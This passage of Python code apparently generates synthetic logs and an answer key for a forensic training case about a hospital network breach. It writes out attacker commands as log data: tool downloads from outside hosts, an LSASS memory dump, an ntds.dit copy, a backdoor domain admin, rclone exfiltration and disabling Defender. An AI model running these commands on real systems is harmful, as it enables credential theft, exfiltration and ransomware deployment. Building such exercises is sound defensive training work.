                    self.next_seq(),
                    [
                        f"type=SYSCALL msg={stamp}: arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c "
                        f"a1=7ffd2c1b3e10 a2=241 a3=1b6 items=2 ppid={ppid} pid={pid} auid={auid} uid={uid} "
                        f"gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} "
                        f'ses={ses} comm="{comm}" exe="{exe}" subj=unconfined key="note"',
                        f'type=CWD msg={stamp}: cwd="{cwd}"',
                        f'type=PATH msg={stamp}: item=0 name="{creates.rsplit("/", 1)[0]}/" inode=262147 '
                        "dev=08:01 mode=040755 ouid=112 ogid=117 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 "
                        "cap_fe=0 cap_fver=0",
                        f'type=PATH msg={stamp}: item=1 name="{creates}" inode=262199 dev=08:01 mode=0100644 '
                        "ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
                        f"type=PROCTITLE msg={stamp}: proctitle={chr(0).join(argv).encode().hex().upper()}",
                    ],
                )
            )

    def audit_user(self, t: datetime, kind: str, body: str) -> None:
        """A single auditd user-space record (USER_AUTH, USER_LOGIN, USER_CMD, ...)."""
        self.audit_serial += self.rng.randrange(2, 20)
        stamp = f"audit({int(t.timestamp())}.{t.microsecond // 1000:03d}:{self.audit_serial})"
        self.audit.append((t, self.next_seq(), [f"type={kind} msg={stamp}: {body}"]))
        self.mark(ES01, t)

    def fw(self, t: datetime, body: str) -> None:
        """A perimeter firewall line (RFC 5424, local time with its offset)."""
        self.firewall.append((t, self.next_seq(), body))
        self.mark("FW-EDGE01", t)


def _audit_arg(i: int, arg: str) -> str:
    """auditd quotes plain arguments and hex-encodes ones with spaces or quotes."""
    if any(c in arg for c in " \"'\\") or not arg.isprintable():
        return f"a{i}={arg.encode().hex().upper()}"
    return f'a{i}="{arg}"'


# --- the scenario -------------------------------------------------------------------------


def begin(case: Case, n: int) -> None:
    """Start attributing events to scenario step ``n``."""
    case.step = case.steps[n]


def end(case: Case) -> None:
    """Stop attributing events to a step (benign noise follows)."""
    case.step = None


def sys_proc(host: str) -> Proc:
    """A stand-in parent for processes SYSTEM services start."""
    return Proc(
        host,
        684,
        "{4f1a0000-0000-0000-0000-00000000b0b0}",
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\system32\\services.exe",
        "NT AUTHORITY\\SYSTEM",
    )


def step_1_2(c: Case) -> Proc:
    """Spray and the RDP logon on WIN-TS01 (steps 1-2); returns the attacker's explorer.exe."""
    begin(c, 1)
    real = [
        "helpdesk01",
        "helpdesk02",
        "helpdesk03",
        "nurse.station1",
        "nurse.station2",
        "opd.reg1",
        "opd.reg2",
        "lab.tech1",
        "lab.tech2",
        "pharmacy1",
        "radiology1",
        "billing1",
        "billing2",
        "dr.mehta",
        "dr.iyer",
        "dr.khan",
        "dr.singh",
        "accounts1",
        "hr.desk",
        "it.rao",
        "adm.sharma",
        "reception1",
        "reception2",
        "emergency1",
        "icu.station",
        "store1",
        "mrd.clerk1",
        "mrd.clerk2",
        "canteen.pos",
        "security.desk",
    ]
    fake = ["admin", "test", "scanner", "backup", "user", "guest1", "sqladmin", "support", "demo", "ftp"]
    names = real + fake
    t0 = ist(22, "21:02:07")
    for i in range(180):
        user = names[i % len(names)]
        t = t0 + timedelta(seconds=i * 4, microseconds=c.rng.randrange(0, 900000))
        c.add(
            TS01,
            "sec",
            4625,
            t,
            {
                "SubjectUserSid": "S-1-0-0",
                "SubjectUserName": "-",
                "SubjectDomainName": "-",
                "SubjectLogonId": "0x0",
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": user,
                "TargetDomainName": NETBIOS,
                "Status": "0xc000006d",
                "FailureReason": "%%2313",
                "SubStatus": "0xc0000064" if user in fake else "0xc000006a",
                "LogonType": "3",
                "LogonProcessName": "NtLmSsp ",
                "AuthenticationPackageName": "NTLM",
                "WorkstationName": "-",
                "TransmittedServices": "-",
                "LmPackageName": "-",
                "KeyLength": "0",
                "ProcessId": "0x0",
                "ProcessName": "-",
                "IpAddress": ATTACKER_IP,
                "IpPort": str(c.rng.randrange(40000, 65000)),
            },
            task=12544,
            keywords=0x8010000000000000,
            process_id=648,
            thread_id=5120,
        )
        if i % 15 == 0:
            fw_rdp(c, t, sent=2100 + i, rcvd=3900 + i, duration=58)
    c.evidence(
        source="evtx",
        host=TS01,
        channel="Security",
        event_id=4625,
        field="IpAddress",
        equals=ATTACKER_IP,
        min_count=180,
    )
    c.evidence(source="firewall", host="FW-EDGE01", contains=f"srcip={ATTACKER_IP}", also="dstport=3389")

    begin(c, 2)
    t = ist(22, "21:16:31")
    fw_rdp(c, t, sent=48_211_003, rcvd=310_552_118, duration=5400)
    explorer = c.rdp(TS01, t, "helpdesk01", ATTACKER_IP, admin=True, session=3)
    c.evidence(source="evtx", host=TS01, channel=CH["rcm"], event_id=1149, contains=ATTACKER_IP)
    c.evidence(
        source="evtx",
        host=TS01,
        channel="Security",
        event_id=4624,
        field="LogonType",
        equals="10",
        also=ATTACKER_IP,
    )
    c.evidence(source="evtx", host=TS01, channel=CH["lsm"], event_id=21, contains="helpdesk01")
    return explorer


def fw_rdp(c: Case, t: datetime, *, sent: int, rcvd: int, duration: int) -> None:
    """Firewall: the NAT rule lets the internet reach WIN-TS01:3389."""
    c.fw(
        t,
        f'type="traffic" subtype="forward" level="notice" action="accept" policyid=12 '
        f'policyname="NAT-RDP-JUMPHOST" srcip={ATTACKER_IP} srcport={c.rng.randrange(40000, 65000)} srcintf="wan1" '
        f'dstip={DIMS_PUBLIC_IP} dstport=3389 dstintf="dmz" tranip={IP[TS01]} tranport=3389 proto=6 '
        f'service="RDP" duration={duration} sentbyte={sent} rcvdbyte={rcvd} srccountry="Reserved"',
    )


def step_3_to_5(c: Case, explorer: Proc) -> None:
    """Discovery, tool download and the LSASS dump on WIN-TS01."""
    user = f"{NETBIOS}\\helpdesk01"
    begin(c, 3)
    t = ist(22, "21:19:02")
    cmd = c.proc(
        TS01,
        t,
        "C:\\Windows\\System32\\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
        user,
        explorer,
        cwd="C:\\Users\\helpdesk01\\",
    )
    for dt, image, line in (
        (20, "C:\\Windows\\System32\\whoami.exe", "whoami  /all"),
        (41, "C:\\Windows\\System32\\net.exe", 'net  group "Domain Admins" /domain'),
        (63, "C:\\Windows\\System32\\nltest.exe", "nltest  /dclist:dims.local"),
    ):
        c.proc(TS01, t + timedelta(seconds=dt), image, line, user, cmd, cwd="C:\\Users\\helpdesk01\\")
    c.evidence(
        source="evtx", host=TS01, channel=CH["sysmon"], event_id=1, field="CommandLine", contains="whoami"
    )
    c.evidence(
        source="evtx",
        host=TS01,
        channel=CH["sysmon"],
        event_id=1,
        field="CommandLine",
        contains='group "Domain Admins" /domain',
    )
    c.evidence(
        source="evtx",
        host=TS01,
        channel="Security",
        event_id=4688,
        field="CommandLine",
        contains="nltest  /dclist:dims.local",
    )

    begin(c, 4)
    t = ist(22, "21:24:10")
    ps = c.proc(
        TS01,
        t,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
        user,
        explorer,
        cwd="C:\\Users\\helpdesk01\\",
    )
    script = "iwr http://198.51.100.23/t.zip -OutFile C:\\PerfLogs\\t.zip"
    for dt, text in (
        (14, script),
        (40, "Expand-Archive C:\\PerfLogs\\t.zip -DestinationPath C:\\PerfLogs\\ -Force"),
    ):
        c.add(
            TS01,
            "ps",
            4104,
            t + timedelta(seconds=dt),
            {
                "MessageNumber": "1",
                "MessageTotal": "1",
                "ScriptBlockText": text,
                "ScriptBlockId": c.guid().strip("{}"),
                "Path": "",
            },
            level=5,
            task=2,
            opcode=15,
            keywords=0x0,
            process_id=ps.pid,
            thread_id=4410,
            user_id=sid("helpdesk01"),
        )
    c.net(TS01, t + timedelta(seconds=15), ps, TOOL_IP, 80)
    c.file(TS01, t + timedelta(seconds=16), ps, "C:\\PerfLogs\\t.zip")
    for i, name in enumerate(("PsExec64.exe", "svchosts.exe", "rclone.exe")):
        c.file(TS01, t + timedelta(seconds=41 + i), ps, f"C:\\PerfLogs\\{name}")
    c.fw(
        t + timedelta(seconds=17),
        f'type="traffic" subtype="forward" level="notice" action="accept" policyid=3 policyname="LAN-OUT-WEB" '
        f'srcip={IP[TS01]} srcport=51230 srcintf="dmz" dstip={TOOL_IP} dstport=80 dstintf="wan1" '
        f'transip={DIMS_PUBLIC_IP} transport=51230 proto=6 service="HTTP" duration=3 sentbyte=1877 '
        f'rcvdbyte=9120447 url="/t.zip"',
    )
    c.evidence(
        source="evtx",
        host=TS01,
        channel=CH["ps"],
        event_id=4104,
        field="ScriptBlockText",
        contains="iwr http://198.51.100.23/t.zip",
    )
    c.evidence(
        source="evtx", host=TS01, channel=CH["sysmon"], event_id=3, field="DestinationIp", equals=TOOL_IP
    )
    c.evidence(
        source="evtx",
        host=TS01,
        channel=CH["sysmon"],
        event_id=11,
        field="TargetFilename",
        contains="C:\\PerfLogs\\rclone.exe",
    )

    begin(c, 5)
    t = ist(22, "21:31:05")
    dump_cmd = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 644 C:\\PerfLogs\\ls.dmp full"
    rd = c.proc(TS01, t, "C:\\Windows\\System32\\rundll32.exe", dump_cmd, user, ps, cwd="C:\\PerfLogs\\")
    c.sysmon(
        TS01,
        10,
        t + timedelta(milliseconds=220),
        {
            "SourceProcessGUID": rd.guid,
            "SourceProcessId": str(rd.pid),
            "SourceThreadId": "6112",
            "SourceImage": rd.image,
            "TargetProcessGUID": "{4f1a0000-0000-0000-0000-0000000a0644}",
            "TargetProcessId": "644",
            "TargetImage": "C:\\Windows\\system32\\lsass.exe",
            "GrantedAccess": "0x1FFFFF",
            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
            "C:\\Windows\\System32\\comsvcs.dll+3a1d5|C:\\Windows\\System32\\rundll32.exe+3bc4",
            "SourceUser": user,
            "TargetUser": "NT AUTHORITY\\SYSTEM",
        },
    )
    c.file(TS01, t + timedelta(seconds=3), rd, "C:\\PerfLogs\\ls.dmp")
    c.evidence(
        source="evtx",
        host=TS01,
        channel=CH["sysmon"],
        event_id=1,
        field="CommandLine",
        contains="comsvcs.dll, MiniDump",
    )
    c.evidence(
        source="evtx",
        host=TS01,
        channel=CH["sysmon"],
        event_id=10,
        field="TargetImage",
        contains="lsass.exe",
        also="0x1FFFFF",
    )


def step_6_to_8(c: Case, explorer: Proc) -> Proc:
    """RDP to DC01, NTDS copy and the backdoor admin; returns DC01's attacker explorer.exe."""
    begin(c, 6)
    t = ist(22, "21:47:12")
    mstsc = c.proc(
        TS01,
        t,
        "C:\\Windows\\System32\\mstsc.exe",
        '"C:\\Windows\\system32\\mstsc.exe" /v:DC01',
        f"{NETBIOS}\\helpdesk01",
        explorer,
        integrity="Medium",
    )
    c.explicit_creds(
        TS01,
        t + timedelta(seconds=9),
        "helpdesk01",
        "adm.sharma",
        "DC01.dims.local",
        IP[DC01],
        "C:\\Windows\\System32\\mstsc.exe",
    )
    c.net(TS01, t + timedelta(seconds=9), mstsc, IP[DC01], 3389)
    c.kerberos_ticket(
        t + timedelta(seconds=9, milliseconds=100), "adm.sharma", "TERMSRV/DC01.dims.local", IP[TS01]
    )
    # NLA: the network logon follows the 4648 within a fraction of a second; the session logon
    # (type 10) comes seconds later, once the desktop is up
    c.logon(DC01, t + timedelta(seconds=9, milliseconds=200), "adm.sharma", 3, IP[TS01], admin=True)
    dc_explorer = c.rdp(
        DC01, t + timedelta(seconds=11, milliseconds=200), "adm.sharma", IP[TS01], admin=True, session=2
    )
    c.evidence(
        source="evtx", host=TS01, channel="Security", event_id=4648, field="TargetServerName", contains="DC01"
    )
    c.evidence(
        source="evtx",
        host=DC01,
        channel="Security",
        event_id=4624,
        field="IpAddress",
        equals=IP[TS01],
        also="LogonType 10",
    )
    c.evidence(source="evtx", host=DC01, channel=CH["rcm"], event_id=1149, contains=IP[TS01])
    c.evidence(source="evtx", host=DC01, channel="Security", event_id=4672, contains="adm.sharma")

    end(c)  # the tools reach DC01 over the RDP clipboard: before step 7, not part of it
    t = ist(22, "21:52:30")
    for name in ("PsExec64.exe", "svchosts.exe"):
        c.file(DC01, t, dc_explorer, f"C:\\PerfLogs\\{name}")
        t += timedelta(seconds=2)

    begin(c, 7)
    user = f"{NETBIOS}\\adm.sharma"
    t = ist(22, "21:55:03")
    cmd = c.proc(
        DC01, t, "C:\\Windows\\System32\\cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', user, dc_explorer
    )
    c.proc(
        DC01,
        t + timedelta(seconds=25),
        "C:\\Windows\\System32\\ntdsutil.exe",
        'ntdsutil.exe  "ac i ntds" ifm "create full C:\\PerfLogs\\ifm" q q',
        user,
        cmd,
    )
    for dt, eid, text in (
        (
            27,
            325,
            "The database engine created a new database (C:\\PerfLogs\\ifm\\Active Directory\\ntds.dit).",
        ),
        (58, 327, "The database engine detached a database (C:\\PerfLogs\\ifm\\Active Directory\\ntds.dit)."),
    ):
        c.add(
            DC01,
            "app",
            eid,
            t + timedelta(seconds=dt),
            {"Data": text},
            prov="esent",
            qualifiers=0,
            task=1,
            keywords=0x80000000000000,
        )
    c.evidence(
        source="evtx",
        host=DC01,
        channel=CH["sysmon"],
        event_id=1,
        field="CommandLine",
        contains='ifm "create full C:\\PerfLogs\\ifm"',
    )
    c.evidence(
        source="evtx", host=DC01, channel="Security", event_id=4688, field="CommandLine", contains="ntdsutil"
    )

    begin(c, 8)
    t = ist(22, "22:03:11")
    c.proc(
        DC01, t, "C:\\Windows\\System32\\net.exe", "net  user dims.svc Winter@2022! /add /domain", user, cmd
    )
    sub = {
        "SubjectUserSid": sid("adm.sharma"),
        "SubjectUserName": "adm.sharma",
        "SubjectDomainName": NETBIOS,
        "SubjectLogonId": c.logon_id(),
    }
    c.add(
        DC01,
        "sec",
        4720,
        t + timedelta(seconds=1),
        {
            "TargetUserName": "dims.svc",
            "TargetDomainName": NETBIOS,
            "TargetSid": sid("dims.svc"),
            **sub,
            "PrivilegeList": "-",
            "SamAccountName": "dims.svc",
            "DisplayName": "%%1793",
            "UserPrincipalName": "-",
            "HomeDirectory": "%%1793",
            "UserAccountControl": "%%2080 %%2082 %%2084",
            "PrimaryGroupId": "513",
        },
        task=13824,
        keywords=0x8020000000000000,
    )
    c.add(
        DC01,
        "sec",
        4722,
        t + timedelta(seconds=1, milliseconds=20),
        {"TargetUserName": "dims.svc", "TargetDomainName": NETBIOS, "TargetSid": sid("dims.svc"), **sub},
        task=13824,
        keywords=0x8020000000000000,
    )
    c.proc(
        DC01,
        t + timedelta(seconds=30),
        "C:\\Windows\\System32\\net.exe",
        'net  group "Domain Admins" dims.svc /add /domain',
        user,
        cmd,
    )
    c.add(
        DC01,
        "sec",
        4728,
        t + timedelta(seconds=31),
        {
            "MemberName": "CN=dims.svc,CN=Users,DC=dims,DC=local",
            "MemberSid": sid("dims.svc"),
            "TargetUserName": "Domain Admins",
            "TargetDomainName": NETBIOS,
            "TargetSid": f"{DOMAIN_SID}-512",
            **sub,
            "PrivilegeList": "-",
        },
        task=13826,
        keywords=0x8020000000000000,
    )
    c.evidence(
        source="evtx", host=DC01, channel="Security", event_id=4720, field="TargetUserName", equals="dims.svc"
    )
    c.evidence(
        source="evtx",
        host=DC01,
        channel="Security",
        event_id=4728,
        field="MemberName",
        contains="dims.svc",
        also="Domain Admins; SubjectUserName adm.sharma",
    )
    return dc_explorer


def step_9(c: Case, explorer: Proc) -> None:
    """rclone copies the DB backup share to 192.0.2.77 over SFTP."""
    begin(c, 9)
    t = ist(22, "22:40:05")
    user = f"{NETBIOS}\\adm.sharma"
    cmd = c.proc(
        TS01,
        t,
        "C:\\Windows\\System32\\cmd.exe",
        "runas /netonly /user:DIMS\\adm.sharma cmd.exe",
        user,
        explorer,
    )
    rclone = c.proc(
        TS01,
        t + timedelta(seconds=20),
        "C:\\PerfLogs\\rclone.exe",
        "C:\\PerfLogs\\rclone.exe copy \\\\EHOSP-DB02\\Backup sftp:/srv/drop/dims --sftp-host 192.0.2.77 "
        "--sftp-user u7 --transfers 8 -q",
        user,
        cmd,
        hashes=fake_hashes("rclone.exe"),
        cwd="C:\\PerfLogs\\",
    )
    c.logon(DB02, t + timedelta(seconds=21), "adm.sharma", 3, IP[TS01], admin=True)
    c.add(
        DB02,
        "sec",
        5140,
        t + timedelta(seconds=21, milliseconds=300),
        {
            "SubjectUserSid": sid("adm.sharma"),
            "SubjectUserName": "adm.sharma",
            "SubjectDomainName": NETBIOS,
            "SubjectLogonId": c.logon_id(),
            "ObjectType": "File",
            "IpAddress": IP[TS01],
            "IpPort": "50311",
            "ShareName": "\\\\*\\Backup",
            "ShareLocalPath": "\\??\\D:\\Backup",
            "AccessMask": "0x1",
            "AccessList": "%%4416\n\t\t\t\t",
        },
        task=12808,
        keywords=0x8020000000000000,
    )
    for i in range(26):
        c.net(TS01, t + timedelta(seconds=22 + i * 58), rclone, EXFIL_IP, 22)
    start = t + timedelta(seconds=22)
    c.fw(
        start,
        f'type="traffic" subtype="forward" level="notice" action="start" policyid=4 '
        f'policyname="LAN-OUT-ANY" srcip={IP[TS01]} srcport=52044 srcintf="dmz" dstip={EXFIL_IP} dstport=22 '
        f'dstintf="wan1" transip={DIMS_PUBLIC_IP} transport=52044 proto=6 service="SSH" duration=0 '
        "sentbyte=0 rcvdbyte=0",
    )
    endt = ist(22, "23:05:40")
    c.fw(
        endt,
        f'type="traffic" subtype="forward" level="notice" action="close" policyid=4 '
        f'policyname="LAN-OUT-ANY" srcip={IP[TS01]} srcport=52044 srcintf="dmz" dstip={EXFIL_IP} dstport=22 '
        f'dstintf="wan1" transip={DIMS_PUBLIC_IP} transport=52044 proto=6 service="SSH" '
        f"duration={int((endt - start).total_seconds())} sentbyte=4402341478 rcvdbyte=18220417",
    )
    c.evidence(
        source="evtx",
        host=TS01,
        channel=CH["sysmon"],
        event_id=1,
        field="CommandLine",
        contains="rclone.exe copy \\\\EHOSP-DB02\\Backup sftp:",
    )
    c.evidence(
        source="evtx",
        host=TS01,
        channel=CH["sysmon"],
        event_id=3,
        field="DestinationIp",
        equals=EXFIL_IP,
        min_count=26,
    )
    c.evidence(source="firewall", host="FW-EDGE01", contains="sentbyte=4402341478", also=f"dstip={EXFIL_IP}")


def step_10_to_12(c: Case) -> None:
    """SSH into LNX-ES01, the encryptor download, and the failed brute force on LNX-BKP01."""
    begin(c, 10)
    t = ist(23, "02:09:58")
    ssh = c.proc(
        TS01,
        t,
        "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
        "ssh.exe  esadmin@10.10.7.31",
        f"{NETBIOS}\\helpdesk01",
        None,
        integrity="Medium",
    )
    c.net(TS01, t + timedelta(seconds=1), ssh, IP[ES01], 22, src_port=51544)
    t = ist(23, "02:10:05")
    c.authlog(ES01, t, "sshd[2211]", f"Accepted password for esadmin from {IP[TS01]} port 51544 ssh2")
    c.authlog(
        ES01,
        t + timedelta(milliseconds=30),
        "sshd[2211]",
        "pam_unix(sshd:session): session opened for user esadmin(uid=1001) by (uid=0)",
    )
    c.authlog(ES01, t + timedelta(milliseconds=60), "systemd-logind[802]", "New session 41 of user esadmin.")
    c.jentry(
        ES01,
        t + timedelta(milliseconds=70),
        "systemd",
        "Started Session 41 of User esadmin.",
        unit="session-41.scope",
    )
    c.audit_user(
        t,
        "USER_AUTH",
        f"pid=2211 uid=0 auid=4294967295 ses=4294967295 subj=unconfined "
        f'msg=\'op=PAM:authentication grantors=pam_permit,pam_cap acct="esadmin" exe="/usr/sbin/sshd" '
        f"hostname={IP[TS01]} addr={IP[TS01]} terminal=ssh res=success'",
    )
    c.audit_user(
        t + timedelta(milliseconds=80),
        "USER_LOGIN",
        "pid=2211 uid=0 auid=1001 ses=41 subj=unconfined "
        f'msg=\'op=login id=1001 exe="/usr/sbin/sshd" hostname={IP[TS01]} addr={IP[TS01]} '
        "terminal=/dev/pts/0 res=success'",
    )
    t2 = t + timedelta(seconds=41)
    c.authlog(ES01, t2, "sudo", " esadmin : TTY=pts/0 ; PWD=/home/esadmin ; USER=root ; COMMAND=/bin/bash")
    c.authlog(
        ES01,
        t2 + timedelta(milliseconds=5),
        "sudo",
        "pam_unix(sudo:session): session opened for user root(uid=0) by esadmin(uid=1001)",
    )
    c.audit_user(
        t2,
        "USER_CMD",
        'pid=2290 uid=1001 auid=1001 ses=41 subj=unconfined msg=\'cwd="/home/esadmin" '
        'cmd=2F62696E2F62617368 exe="/usr/bin/sudo" terminal=pts/0 res=success\'',
    )
    c.evidence(
        source="auth.log",
        host=ES01,
        contains=f"Accepted password for esadmin from {IP[TS01]} port 51544",
        file="var/log/auth.log.1",
    )
    c.evidence(source="auth.log", host=ES01, contains="USER=root ; COMMAND=/bin/bash")

    begin(c, 11)
    t = ist(23, "02:14:22", 118000)
    c.audit_exec(
        t,
        ["curl", "-so", "/tmp/.x", f"http://{TOOL_IP}/lx"],
        auid=1001,
        uid=0,
        exe="/usr/bin/curl",
        cwd="/root",
        ppid=2301,
    )
    c.audit_exec(
        t + timedelta(seconds=6),
        ["chmod", "+x", "/tmp/.x"],
        auid=1001,
        uid=0,
        exe="/usr/bin/chmod",
        cwd="/root",
        ppid=2301,
    )
    c.evidence(
        source="audit.log",
        host=ES01,
        type="EXECVE",
        contains=f"http://{TOOL_IP}/lx",
        also="SYSCALL auid=1001 uid=0 shares the serial",
    )

    begin(c, 12)
    t = ist(23, "02:20:03")
    for i in range(60):
        ti = t + timedelta(seconds=i * 6, microseconds=c.rng.randrange(0, 900000))
        pid = 3100 + i // 3 * 7
        port = 40112 + i * 3
        if i % 3 == 0:
            c.authlog(
                BKP01,
                ti - timedelta(milliseconds=300),
                f"sshd[{pid}]",
                "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                f"rhost={IP[ES01]}  user=root",
            )
        c.authlog(BKP01, ti, f"sshd[{pid}]", f"Failed password for root from {IP[ES01]} port {port} ssh2")
        if i % 3 == 2:
            c.authlog(
                BKP01,
                ti + timedelta(milliseconds=200),
                f"sshd[{pid}]",
                f"Connection closed by authenticating user root {IP[ES01]} port {port} [preauth]",
            )
    c.audit_exec(
        t - timedelta(seconds=2),
        ["sshpass", "-f", "/tmp/.p", "ssh", "root@10.10.7.40"],
        auid=1001,
        uid=0,
        exe="/usr/bin/sshpass",
        cwd="/root",
        ppid=2301,
    )
    c.evidence(
        source="auth.log",
        host=BKP01,
        contains=f"Failed password for root from {IP[ES01]}",
        min_count=60,
        absent="Accepted",
    )


def step_13_to_18(c: Case, dc_explorer: Proc) -> None:
    """PsExec, copy, service stop, recovery deletion, scheduled task and encryption on the servers."""
    user = f"{NETBIOS}\\adm.sharma"
    t = ist(23, "05:37:40")
    end(c)
    dc_cmd = c.proc(
        DC01,
        t,
        "C:\\Windows\\System32\\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
        user,
        dc_explorer,
        cwd="C:\\PerfLogs\\",
    )
    begin(c, 13)
    psexec_hashes = fake_hashes("PsExec64.exe")
    services: dict[str, Proc] = {}
    for k, host in enumerate(TARGETS):
        t = ist(23, "05:38:02") + timedelta(seconds=k * 9)
        ps = c.proc(
            DC01,
            t,
            "C:\\PerfLogs\\PsExec64.exe",
            f"PsExec64.exe  -accepteula \\\\{host} -s -d powershell.exe -nop -c "
            '"Set-MpPreference -DisableRealtimeMonitoring $true"',
            user,
            dc_cmd,
            hashes=psexec_hashes,
            cwd="C:\\PerfLogs\\",
        )
        c.explicit_creds(
            DC01,
            t + timedelta(milliseconds=100),
            "adm.sharma",
            "adm.sharma",
            fqdn(host),
            IP[host],
            "C:\\PerfLogs\\PsExec64.exe",
        )
        c.net(DC01, t + timedelta(milliseconds=120), ps, IP[host], 445)
        c.logon(host, t + timedelta(milliseconds=150), "adm.sharma", 3, IP[DC01], admin=True)
        c.share(host, t + timedelta(milliseconds=700), "adm.sharma", IP[DC01], "ADMIN$", "PSEXESVC.exe")
        svc_t = t + timedelta(seconds=1)
        c.add(
            host,
            "sys",
            7045,
            svc_t,
            {
                "ServiceName": "PSEXESVC",
                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            prov="scm",
            qualifiers=16384,
            keywords=0x8080000000000000,
            process_id=684,
            thread_id=3320,
            user_id=sid("adm.sharma"),
        )
        c.add(
            host,
            "sec",
            4697,
            svc_t + timedelta(milliseconds=5),
            {
                "SubjectUserSid": sid("adm.sharma"),
                "SubjectUserName": "adm.sharma",
                "SubjectDomainName": NETBIOS,
                "SubjectLogonId": c.logon_id(),
                "ServiceName": "PSEXESVC",
                "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": "0x10",
                "ServiceStartType": "3",
                "ServiceAccount": "LocalSystem",
            },
            task=12289,
            keywords=0x8020000000000000,
        )
        svc = c.proc(
            host,
            svc_t + timedelta(milliseconds=300),
            "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe",
            "NT AUTHORITY\\SYSTEM",
            sys_proc(host),
            hashes=psexec_hashes,
        )
        services[host] = svc
        for n, suffix in enumerate(("stdin", "stdout", "stderr")):
            c.sysmon(
                host,
                17,
                svc_t + timedelta(milliseconds=500 + n),
                {
                    "EventType": "CreatePipe",
                    "ProcessGuid": svc.guid,
                    "ProcessId": str(svc.pid),
                    "PipeName": f"\\PSEXESVC-DC01-{ps.pid}-{suffix}",
                    "Image": svc.image,
                    "User": "NT AUTHORITY\\SYSTEM",
                },
            )
        c.proc(
            host,
            svc_t + timedelta(seconds=1),
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            'powershell.exe -nop -c "Set-MpPreference -DisableRealtimeMonitoring $true"',
            "NT AUTHORITY\\SYSTEM",
            svc,
        )
        c.add(
            host,
            "def",
            5001,
            svc_t + timedelta(seconds=3),
            {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.2210.6"},
            prov="def",
            keywords=0x8000000000000000,
            process_id=3140,
            thread_id=5504,
            user_id="S-1-5-18",
        )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel="Security",
        event_id=5145,
        field="RelativeTargetName",
        equals="PSEXESVC.exe",
        also=f"IpAddress {IP[DC01]}",
    )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel="System",
        event_id=7045,
        field="ServiceName",
        equals="PSEXESVC",
    )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel="Security",
        event_id=4697,
        field="ServiceName",
        equals="PSEXESVC",
    )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel=CH["sysmon"],
        event_id=17,
        field="PipeName",
        contains="\\PSEXESVC-",
    )
    c.evidence(source="evtx", host=list(TARGETS), channel=CH["def"], event_id=5001)

    begin(c, 14)
    for k, host in enumerate(TARGETS):
        t = ist(23, "05:50:04") + timedelta(seconds=k * 5)
        c.proc(
            DC01,
            t,
            "C:\\Windows\\System32\\cmd.exe",
            f"cmd.exe /c copy C:\\PerfLogs\\svchosts.exe \\\\{host}\\C$\\Windows\\Temp\\",
            user,
            dc_cmd,
        )
        c.share(
            host, t + timedelta(milliseconds=500), "adm.sharma", IP[DC01], "C$", "Windows\\Temp\\svchosts.exe"
        )
        system = Proc(host, 4, "{4f1a0000-0000-0000-0000-000000000004}", "System", "", "NT AUTHORITY\\SYSTEM")
        c.file(host, t + timedelta(milliseconds=600), system, "C:\\Windows\\Temp\\svchosts.exe")
        c.sysmon(
            host,
            29,
            t + timedelta(milliseconds=900),
            {
                "ProcessGuid": system.guid,
                "ProcessId": "4",
                "User": "NT AUTHORITY\\SYSTEM",
                "Image": "System",
                "TargetFilename": "C:\\Windows\\Temp\\svchosts.exe",
                "Hashes": sysmon_hashes(STANDIN_HASHES),
            },
        )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel="Security",
        event_id=5145,
        field="RelativeTargetName",
        equals="Windows\\Temp\\svchosts.exe",
    )
    c.evidence(
        source="evtx",
        host=list(TARGETS),
        channel=CH["sysmon"],
        event_id=29,
        field="Hashes",
        contains=STANDIN_SHA256.upper(),
    )

    begin(c, 15)
    sysu = "NT AUTHORITY\\SYSTEM"
    for k, host in enumerate(TARGETS):
        t = ist(23, "06:02:01") + timedelta(seconds=k * 4)
        shell = c.proc(
            host,
            t,
            "C:\\Windows\\System32\\cmd.exe",
            'cmd.exe /c "net stop MSSQLSERVER /y & sc config MSSQLSERVER start= disabled"',
            sysu,
            services[host],
        )
        c.proc(
            host,
            t + timedelta(milliseconds=200),
            "C:\\Windows\\System32\\net.exe",
            "net  stop MSSQLSERVER /y",
            sysu,
            shell,
        )
        c.add(
            host,
            "sys",
            7036,
            t + timedelta(seconds=6),
            {"param1": "SQL Server (MSSQLSERVER)", "param2": "stopped", "binary": "4D005300530051004C00"},
            prov="scm",
            qualifiers=16384,
            keywords=0x8080000000000000,
            process_id=684,
            thread_id=2212,
        )
        c.proc(
            host,
            t + timedelta(seconds=7),
            "C:\\Windows\\System32\\sc.exe",
            "sc  config MSSQLSERVER start= disabled",
            sysu,
            shell,
        )
        c.add(
            host,
            "sys",
            7040,
            t + timedelta(seconds=7, milliseconds=300),
            {
                "param1": "SQL Server (MSSQLSERVER)",
                "param2": "auto start",
                "param3": "disabled",
                "param4": "MSSQLSERVER",
            },
            prov="scm",
            qualifiers=16384,
